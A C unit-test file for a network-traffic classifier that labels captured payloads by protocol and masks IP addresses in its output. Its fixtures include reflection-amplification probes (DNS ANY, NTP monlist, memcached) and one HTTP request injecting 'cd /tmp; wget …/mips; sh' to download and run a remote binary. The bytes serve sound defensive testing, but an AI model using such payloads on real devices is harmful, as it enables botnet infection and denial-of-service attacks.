/* Payloads: bytes written by hand for each protocol, cut at every length, and what must not be in a detail. */
#include "label/payload.h"

#include "tap.h"

#include <ctype.h>
#include <string.h>

static const struct {
	const char *name;
	uint8_t proto;
	uint16_t from, to;
	size_t len;
	const char *bytes;
	const char *detail;
} cases[] = {
    /* clang-format off */
    {"messenger", PROTO_UDP, 666, 1026, 140,
     "\004\000(\000\020\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"
     "\000\370\221{Z\000\377\320\021\251\262\000\300O\266\346\374\000\000\000\000\000\000\000\000"
     "\000\000\000\000\000\000\000\000\000\000\000\000\001\000\000\000\000\000\000\000\000\000"
     "\377\377\377\377<\000\000\000\000\000\007\000\000\000\000\000\000\000\007\000\000\000SYS"
     "TEM\000\000\006\000\000\000\000\000\000\000\006\000\000\000ALERT\000\000\000\010\000\000"
     "\000\000\000\000\000\010\000\000\000Buy now\000",
     ""},
    {"sip", PROTO_UDP, 5061, 5060, 120,
     "OPTIONS sip:100@192.0.2.1 SIP/2.0\r\nVia: SIP/2.0/UDP 198.51.100.7:5061;branch=z9hG4bK-1"
     "\r\nUser-Agent: friendly-scanner\r\n\r\n",
     "OPTIONS, User-Agent friendly-scanner"},
    {"sip", PROTO_UDP, 5060, 5060, 55,
     "SIP/2.0 404 Not Found\r\nUser-Agent: pbx at 192.0.2.1\r\n\r\n",
     "response 404, User-Agent pbx at ***.***.***.***"},
    {"dns", PROTO_UDP, 4444, 53, 29,
     "\0224\001\000\000\001\000\000\000\000\000\000\007example\003com\000\000\377\000\001",
     "query ANY ********.com, amplification"},
    {"dns", PROTO_UDP, 4444, 5300, 36,
     "\0224\001\000\000\001\000\000\000\000\000\001\003isc\003org\000\000\377\000\001\000\000)"
     "\020\000\000\000\000\000\000\000",
     "query ANY isc.org, amplification"},
    {"dns", PROTO_UDP, 4444, 53, 30,
     "\0224\001\000\000\001\000\000\000\000\000\000\007version\004bind\000\000\020\000\003",
     "query TXT CH version.bind"},
    {"dns", PROTO_UDP, 53, 4444, 33,
     "\0224\201\205\000\001\000\000\000\000\000\000\003www\007example\003net\000\000\001\000\001",
     "response, refused, A ********.net"},
    {"dns", PROTO_UDP, 4444, 53, 17,
     "\0224\000\000\000\001\000\000\000\000\000\000\000\000\002\000\001",
     "query NS ."},
    {"mdns", PROTO_UDP, 5353, 5353, 46,
     "\0224\000\000\000\001\000\000\000\000\000\000\011_services\007_dns-sd\004_udp\005local\000"
     "\000\014\000\001",
     "query PTR _services._dns-sd._udp.local"},
    {"netbios", PROTO_UDP, 137, 137, 50,
     "\200\360\000\020\000\001\000\000\000\000\000\000 CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\000\000"
     "!\000\001",
     "NBSTAT *"},
    {"netbios", PROTO_UDP, 137, 137, 50,
     "\200\360\000\020\000\001\000\000\000\000\000\000 FHEPFCELEHFCEPFFFACACACACACACAAA\000\000"
     " \000\001",
     "NB WORKGROUP"},
    {"ntp", PROTO_UDP, 80, 123, 8,
     "\027\000\003*\000\000\000\000",
     "private, monlist"},
    {"ntp", PROTO_UDP, 80, 123, 12,
     "\026\002\000\001\000\000\000\000\000\000\000\000",
     "control, read variables"},
    {"ntp", PROTO_UDP, 123, 123, 48,
     "\343\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"
     "\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"
     "\000\000\000\000",
     "client, version 4"},
    {"ssdp", PROTO_UDP, 9, 1900, 94,
     "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\n"
     "ST: ssdp:all\r\n\r\n",
     "M-SEARCH, ST ssdp:all"},
    {"ssdp", PROTO_UDP, 1900, 9, 94,
     "HTTP/1.1 200 OK\r\nST: upnp:rootdevice\r\nUSN: uuid:1\r\nLOCATION: http://192.168.0.1:50"
     "00/x.xml\r\n\r\n",
     "response, ST upnp:rootdevice"},
    {"memcached", PROTO_UDP, 9, 11211, 15,
     "\000\001\000\000\000\001\000\000stats\r\n",
     "stats"},
    {"ldap", PROTO_UDP, 9, 389, 39,
     "0%\002\001\007c \004\000\n\001\000\n\001\000\002\001\000\002\001\000\001\001\000\207\013"
     "objectClass0\000",
     "searchRequest, rootDSE"},
    {"ldap", PROTO_TCP, 9, 389, 14,
     "0\014\002\001\001`\007\002\001\003\004\000\200\000",
     "bindRequest"},
    {"snmp", PROTO_UDP, 9, 161, 40,
     "0&\002\001\001\004\006public\240\031\002\001\001\002\001\000\002\001\0000\0160\014\006\010"
     "+\006\001\002\001\001\001\000\005\000",
     "v2c, community public, get, 1.3.6.1.2.1.1.1.0"},
    {"snmp", PROTO_UDP, 9, 161, 60,
     "0:\002\001\0030\017\002\002Ji\002\003\000\377\343\004\001\004\002\001\003\004\0200\016\004"
     "\000\002\001\000\002\001\000\004\000\004\000\004\0000\022\004\000\004\000\240\014\002\002"
     "7\360\002\001\000\002\001\0000\000",
     "v3, engine asked for"},
    {"tftp", PROTO_UDP, 9, 69, 23,
     "\000\001startup-config\000octet\000",
     "read startup-config, octet"},
    {"slammer", PROTO_UDP, 9, 1434, 101,
     "\004\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001"
     "\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001"
     "\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001"
     "\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001\001"
     "\001\001\001\001\001\001\001\001\001\334\311\260B",
     ""},
    {"sql-browser", PROTO_UDP, 9, 1434, 1,
     "\002",
     "list of instances"},
    {"coap", PROTO_UDP, 9, 5683, 21,
     "@\001\001\316\273.well-known\004core",
     "GET /.well-known/core"},
    {"quic", PROTO_UDP, 9, 443, 36,
     "\303\000\000\000\001\010\001\002\003\004\005\006\007\010\000\000UUUUUUUUUUUUUUUUUUUU",
     "version 1, Initial"},
    {"quic", PROTO_UDP, 9, 443, 14,
     "\r\001\002\003\004\005\006\007\010Q043\001",
     "Google 43"},
    {"bittorrent", PROTO_UDP, 9, 6881, 95,
     "d1:ad2:id20:abcdefghij01234567899:info_hash20:mnopqrstuvwxyz123456e1:q9:get_peers1:t2:aa"
     "1:y1:qe",
     "DHT get_peers"},
    {"bittorrent", PROTO_UDP, 9, 6881, 20,
     "A\000\0224\000\021\"3\000\000\000\000\000\004\000\000\000\001\000\000",
     "uTP connect"},
    {"bittorrent", PROTO_TCP, 9, 6881, 68,
     "\023BitTorrent protocol\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"
     "\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"
     "\000\000\000\000\000\000\000\000\000",
     "handshake"},
    {"http", PROTO_TCP, 9, 80, 115,
     "GET /shell?cd+/tmp;wget+http://198.51.100.9:8080/mips;sh HTTP/1.1\r\nHost: 192.0.2.1:80\r"
     "\nUser-Agent: Hello, world\r\n\r\n",
     "GET /shell?cd+/tmp;wget+http://***.***.***.***:#/mips;sh, Host ***.***.***.***:80, User-Agent Hello, world"},
    {"http", PROTO_TCP, 9, 80, 57,
     "GET /index.php?s=/x HTTP/1.0\r\nHost: www.example.co.jp\r\n\r\n",
     "GET /index.php?s=/x, Host ********.jp"},
    {"tls", PROTO_TCP, 9, 443, 90,
     "\026\003\001\000U\001\000\000Q\003\003\021\021\021\021\021\021\021\021\021\021\021\021\021"
     "\021\021\021\021\021\021\021\021\021\021\021\021\021\021\021\021\021\021\021\000\000\002"
     "\023\001\001\000\000&\000\000\000\020\000\016\000\000\013example.org\000\020\000\005\000"
     "\003\002h2\000+\000\005\004\003\004\003\003",
     "TLS 1.3, ALPN h2, server name ********.org"},
    {"dtls", PROTO_UDP, 9, 4433, 61,
     "\026\376\377\000\000\000\000\000\000\000\000\0000\001\000\000$\000\000\000\000\000\000\000"
     "$\376\377\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"",
     "client hello"},
    {"rdp", PROTO_TCP, 9, 3389, 43,
     "\003\000\000+&\340\000\000\000\000\000Cookie: mstshash=hello\r\n\001\000\010\000\003\000"
     "\000\000",
     "user hello"},
    {"smb", PROTO_TCP, 9, 445, 36,
     "\000\000\000T\377SMBr\000\000\000\000\030S\310\000\000\000\000\000\000\000\000\000\000\000"
     "\000\000\000\000\000\000\000\000\000",
     "SMB1, negotiate"},
    {"smb", PROTO_TCP, 9, 445, 38,
     "\000\000\000T\376SMB@\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"
     "\000\000\000\000\000\000\000\000\000\000\000\000",
     "SMB2, negotiate"},
    {"adb", PROTO_TCP, 9, 5555, 31,
     "CNXN\000\000\000\001\000\020\000\000\007\000\000\000\000\000\000\000\274\261\247\261host"
     "::\000",
     "CNXN host::"},
    {"redis", PROTO_TCP, 9, 6379, 25,
     "*2\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n",
     "CONFIG GET"},
    {"redis", PROTO_TCP, 9, 6379, 6,
     "INFO\r\n",
     "INFO"},
    {"telnet", PROTO_TCP, 9, 23, 6,
     "\377\375\030\377\373\037",
     "DO 24, WILL 31"},
    {"ssh", PROTO_TCP, 9, 22, 24,
     "SSH-2.0-libssh2_1.10.0\r\n",
     "SSH-2.0-libssh2_1.10.0"},
    {"ike", PROTO_UDP, 500, 500, 32,
     "\000\021\"3DUfw\000\000\000\000\000\000\000\000\001\020\002\000\000\000\000\000\000\000\000"
     " \000\000\000\000",
     "IKEv1, identity protection"},
    {"stun", PROTO_UDP, 9, 3478, 20,
     "\000\001\000\000!\022\244B\000\001\002\003\004\005\006\007\010\011\n\013",
     "binding request"},
    {"rpc", PROTO_UDP, 9, 111, 40,
     "\021\"3D\000\000\000\000\000\000\000\002\000\001\206\240\000\000\000\002\000\000\000\004"
     "\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000",
     "portmap, dump"},
    {"ipmi", PROTO_UDP, 9, 623, 23,
     "\006\000\377\007\000\000\000\000\000\000\000\000\000\011 \030\310\201\0008\216\004\265",
     "IPMI, channel authentication capabilities"},
    {"ws-discovery", PROTO_UDP, 9, 3702, 123,
     "<?xml version=\"1.0\"?><Envelope xmlns:d=\"http://schemas.xmlsoap.org/ws/2005/04/discove"
     "ry\"><Body><d:Probe/></Body></Envelope>",
     "Probe"},
    {"ubiquiti", PROTO_UDP, 9, 10001, 4,
     "\001\000\000\000",
     "version 1"},
    {"game-query", PROTO_UDP, 9, 27015, 25,
     "\377\377\377\377TSource Engine Query\000",
     "TSource Engine Query"},
    {"unknown", PROTO_UDP, 9, 9999, 24,
     "hello 192.0.2.1 and more",
     "24 bytes: hello 000.0.0.0 "},
    {"unknown", PROTO_UDP, 9, 9999, 9,
     "\001\002\300\000\002\001\005\006\007",
     "9 bytes: 01022a2a2a2a050607"},
    /* clang-format on */
};
#define CASES (sizeof(cases) / sizeof(*cases))

/* As the point 192.0.2.1 gets it from 198.51.100.7. */
static struct packet packet_of(uint8_t proto, uint16_t from, uint16_t to, const uint8_t *transport, size_t len)
{
	return (struct packet){.form = PACKET_IP,
			       .version = 4,
			       .proto = proto,
			       .has_ports = true,
			       .src_port = from,
			       .dst_port = to,
			       .src = addr_v4(0xc6336407),
			       .dst = addr_v4(0xc0000201),
			       .transport = transport,
			       .transport_len = len};
}

/* The first n bytes of a case's data, in memory that ends with them, behind a header. */
static enum payload read_case(size_t i, size_t n, struct detail *out)
{
	size_t header = cases[i].proto == PROTO_TCP ? 20 : 8;
	uint8_t *transport = calloc(1, header + n);
	size_t len = 0;
	if (!transport)
		return PAYLOAD_COUNT;
	if (header > 12)
		transport[12] = 5 << 4;
	memcpy(transport + header, cases[i].bytes, n);
	struct packet p = packet_of(cases[i].proto, cases[i].from, cases[i].to, transport, header + n);
	const uint8_t *data = payload_data(&p, &len);
	enum payload kind = data && len == n ? payload_read(data, len, &p, out) : PAYLOAD_COUNT;
	free(transport);
	return kind;
}

static void test_each(void)
{
	bool seen[PAYLOAD_COUNT] = {false};
	size_t missing = 0;
	for (size_t i = 0; i < CASES; i++) {
		struct detail d;
		enum payload kind = read_case(i, cases[i].len, &d);
		IS_TEXT(payload_entry(kind) ? payload_entry(kind)->name : "none", cases[i].name, "the protocol");
		IS_TEXT(d.text, cases[i].detail, "and what is in it");
		if (kind < PAYLOAD_COUNT)
			seen[kind] = true;
	}
	for (size_t k = 0; k < PAYLOAD_COUNT; k++)
		missing += !seen[k];
	IS_INT(missing, 0, "every protocol of the table is among them");
}

static bool printable(const struct detail *d)
{
	for (size_t i = 0; i < d->len; i++)
		if (!isprint((unsigned char)d->text[i]))
			return false;
	return d->len <= DETAIL_MAX && d->text[d->len] == '\0';
}

/* Memory that ends with the data: ASan sees what is read beyond it. */
static void test_cut(void)
{
	size_t bad = 0;
	for (size_t i = 0; i < CASES; i++)
		for (size_t n = 1; n < cases[i].len; n++) {
			struct detail d;
			bad += read_case(i, n, &d) >= PAYLOAD_COUNT || !printable(&d);
		}
	IS_INT(bad, 0, "data cut at any length is read as something");
}

static const char *quoted(const char *text)
{
	static struct detail d;
	d = (struct detail){.len = 0};
	detail_quote(&d, (const uint8_t *)text, strlen(text));
	return d.text;
}

static void test_masks(void)
{
	static const struct {
		const char *text, *want;
	} all[] = {{"192.0.2.1", "***.***.***.***"},
		   {"ip=192.0.2.1:5060;x", "ip=***.***.***.***:#;x"},
		   {"MGLNDD_192.0.2.1_5060", "MGLNDD_***.***.***.***_#"},
		   {"host-192-0-2-1.example.ne.jp", "********.jp"},
		   {"p192-0-2-1.example.ne.jp", "********.jp"},
		   {"192_0_2_1", "***.***.***.***"},
		   {"192%2e0%2E2%2e1", "***.***.***.***"},
		   {"c0000201", "#"},
		   {"0xC0000201", "#"},
		   {"3221225985", "#"},
		   {"2001:db8::1", "***.***.***.***"},
		   {"1.2.0.192.in-addr.arpa", "***.***.***.***.in-addr.arpa"},
		   {"MTkyLjAuMi4x", "#"},
		   {"sip:100@point.example.org", "sip:100@********.org"},
		   {"/cgi-bin/luci/;stok=/locale", "/cgi-bin/luci/;stok=/locale"},
		   {"/setup.cgi?next_file=x.cfg", "/setup.cgi?next_file=x.cfg"},
		   {"http://evil.sh/a", "http://********.sh/a"},
		   {"Mozilla/5.0 zgrab/0.x", "Mozilla/5.0 zgrab/0.x"}};
	for (size_t i = 0; i < sizeof(all) / sizeof(*all); i++)
		IS_TEXT(quoted(all[i].text), all[i].want, all[i].text);
	OK(!strstr(quoted("a192.0.2.1"), "0.2.1"), "an address behind a letter");
	char most[600];
	memset(most, 'x', sizeof(most));
	memcpy(most + 500, " 192.0.2.123", 12); /* the 512th byte is within the address */
	most[599] = '\0';
	OK(!strstr(quoted(most), "192"), "an address that is cut off is left out whole");
}

/* What the details say must not depend on the address that was written to. */
static void test_raw_address(void)
{
	uint8_t transport[64] = {0};
	struct detail d;
	memcpy(transport + 8 + 13, "\xc0\x00\x02\x01", 4); /* ends behind the bytes that are shown */
	struct packet p = packet_of(PROTO_UDP, 9, 9999, transport, sizeof(transport));
	IS_INT(payload_read(transport + 8, 56, &p, &d), PAYLOAD_UNKNOWN, "zeros are nothing");
	OK(!strstr(d.text, "c00002"), "bytes of the address are not shown");
	memcpy(transport + 8, "\x01\x02\x00\xc0", 4);
	(void)payload_read(transport + 8, 56, &p, &d);
	OK(!strstr(d.text, "010200c0"), "nor in the other order");
}

static void test_no_data(void)
{
	uint8_t transport[24] = {[12] = 5 << 4};
	size_t len;
	struct packet p = packet_of(PROTO_TCP, 9, 80, transport, 20);
	OK(!payload_data(&p, &len), "a SYN has no data");
	p.transport_len = 24;
	OK(payload_data(&p, &len) && len == 4, "four bytes behind a header of twenty");
	transport[12] = 6 << 4;
	OK(!payload_data(&p, &len), "options are no data");
	transport[12] = 4 << 4;
	OK(!payload_data(&p, &len), "a header that is too short has none");
	p.proto = PROTO_ICMP;
	p.has_ports = false;
	OK(!payload_data(&p, &len), "other protocols are not looked at");
	OK(!payload_entry(PAYLOAD_COUNT), "a number beyond the list has no entry");
}

int main(void)
{
	test_each();
	test_cut();
	test_masks();
	test_raw_address();
	test_no_data();
	return tap_done();
}
